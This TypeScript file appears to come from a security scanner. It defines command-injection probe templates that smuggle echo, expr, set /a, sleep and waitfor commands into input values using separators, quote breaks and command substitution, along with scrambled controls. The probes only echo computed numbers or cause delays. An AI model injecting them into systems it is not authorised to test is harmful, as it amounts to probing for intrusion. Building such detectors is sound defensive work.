/** A way to append a command to one, by what separates the two. */
export type CommandPayload = Readonly<{
  /** For sentences. */
  by: string
  template: string
}>

/**
 * The same run for a value without quotes, in single and in double ones: what follows the run that
 * fits is a comment. `run` ends with `#` where a comment can begin.
 */
const inEachQuote = (run: string): string => `{value}${run}'${run}"${run}`

/** Substitutions run inside double quotes as well; for single quotes those are closed and opened. */
const substituted = (run: string): string => `{value}${run}'${run}'`

/** `{a}` and `{b}` are nonces around the product of `{x}` and `{y}`, which the shell computes. */
const ECHO = '{a}$(({x}*{y})){b}'

/** Another sum for where `$` and the backtick are refused; the product stands on a line of its own. */
const EXPR = 'expr {x} \\* {y};echo {b}'

/** The semicolon needs no blank; the ampersand is for cmd.exe too, whose `set /a` computes. */
export const ECHO_COMMANDS: readonly CommandPayload[] = [
  { by: 'a semicolon', template: inEachQuote(`;echo\${IFS}${ECHO};#`) },
  { by: 'a pipe', template: inEachQuote(`|echo ${ECHO} #`) },
  { by: 'an ampersand', template: inEachQuote(`&echo ${ECHO}&set /a {x}*{y}&echo {b} #`) },
  { by: 'a line feed', template: inEachQuote(`\necho ${ECHO} #`) },
  { by: 'a semicolon', template: inEachQuote(`;${EXPR} #`) },
  { by: '$( )', template: substituted(`$(echo ${ECHO})`) },
  { by: 'backticks', template: substituted(`\`echo ${ECHO}\``) },
]

/** As long and of the same characters, but no shell reads it as a command or a sum. */
export const scrambled = (payload: string): string =>
  payload
    .replaceAll('echo', 'ohce')
    .replaceAll('expr', 'rpxe')
    .replaceAll('$((', '(($')
    .replaceAll('set /a', 'a/ tes')

export type DelayCommand = CommandPayload &
  Readonly<{
    /** What `{amount}` counts: seconds with two decimals, or whole seconds. */
    amount: 'fraction' | 'whole'
  }>

/** `{word}` makes every request new: as a comment, as a variable for the command, or as a signal. */
export const DELAY_COMMANDS: readonly DelayCommand[] = [
  { by: 'a semicolon', template: inEachQuote(';sleep${IFS}{amount};#{word}'), amount: 'fraction' },
  { by: 'a pipe', template: inEachQuote('|sleep {amount} #{word}'), amount: 'fraction' },
  { by: 'an ampersand', template: inEachQuote('&sleep {amount} #{word}'), amount: 'fraction' },
  // A line feed ends comments too, so that one run for every quote would wait three times.
  { by: 'a line feed', template: '{value}\n{word}= sleep {amount}\n', amount: 'fraction' },
  { by: '$( )', template: substituted('$({word}= sleep {amount})'), amount: 'fraction' },
  { by: 'backticks', template: substituted('`{word}= sleep {amount}`'), amount: 'fraction' },
  // cmd.exe: waits for a signal that nobody sends; `timeout` needs a terminal.
  {
    by: 'an ampersand in cmd.exe',
    template: '{value}&waitfor /t {amount} {word}&"&waitfor /t {amount} {word}&',
    amount: 'whole',
  },
]
